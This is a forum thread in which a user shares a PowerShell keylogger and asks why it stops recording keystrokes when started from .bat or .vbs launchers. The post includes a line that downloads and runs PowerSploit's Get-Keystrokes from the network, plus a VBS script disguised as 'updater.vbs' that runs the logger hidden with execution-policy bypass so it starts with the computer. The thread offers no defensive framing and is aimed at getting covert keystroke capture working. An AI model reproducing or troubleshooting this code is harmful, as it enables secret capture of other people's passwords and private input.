Jump to content

Get-Keystrokes does not work when executing from .bat or .vbs scripts


Recommended Posts


So I have this simple script, keylogger.ps1

$time = Get-Date -format "yyyy-MM-dd_HH-mm"

$folder = $ENV:UserProfile
$folder += '\Desktop\' + $time + '_keystrokes.txt'

IEX (New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/PowerShellMafia/PowerSploit/master/Exfiltration/Get-Keystrokes.ps1')
Get-Keystrokes -LogPath $folder

It gets the powershell keylogger and execute it. Creating a log file on the desktop with year and day.

This works fine when I run ./keylogger.ps1 from powershell

Then I tried to add somepersistence so it start with the computer, so I added  this:

 updater.vbs script:

Set objShell = CreateObject("Wscript.shell")
objShell.run("powershell -WindowStyle Hidden -executionpolicy bypass -file C:\Users\user\Desktop\keylogger.ps1")

The code is executed, but key strokes are not captured!!

Same thing here, I run the script via a .bat file

@echo off
PowerShell -NoProfile -ExecutionPolicy Bypass -Command "& 'C:\Users\user\Desktop\keylogger.ps1'"

The code is executed, file is created for logging key strokes, but no key strokes are captured!!

Anybody know why this is?

Link to comment
Share on other sites

9 minutes ago, Decoysaid:

I think in newer versions of Powershell running scripts is turned off by default. I think you have to turn it on first. Do you know what version of Powershell you are testing on?

So, to be clear, the script does run. Both the .vbs script and the .bat file runs the PowerShell script "keylogger.ps1". I know this because the first part of the powershell script works fine, it creates a empty file for logging keystrokes.

The problem is that the keystrokes are not being registered when the powershell script is executed via a .bat script or a .vbs script.

The keystrokes are registed if I run keylogger.ps1 via the powershell terminal, but NOT when I execute the keylogger.ps1 script via .bat or .vbs scripts.

So, my question is, has anyone gotten this to work?

Link to commentShare on other sites

Join the conversation

You can post now and register later. If you have an account, sign in now to post with your account.

Reply to this topic...

×   Pasted as rich text.   Paste as plain text instead

  Only 75 emoji are allowed.

×   Your link has been automatically embedded.   Display as a link instead

×Your previous content has been restored.   Clear editor

×   You cannot paste images directly. Upload or insert images from URL.

  • Recently Browsing   0 members

    • No registered usersviewing this page.
  • Create New...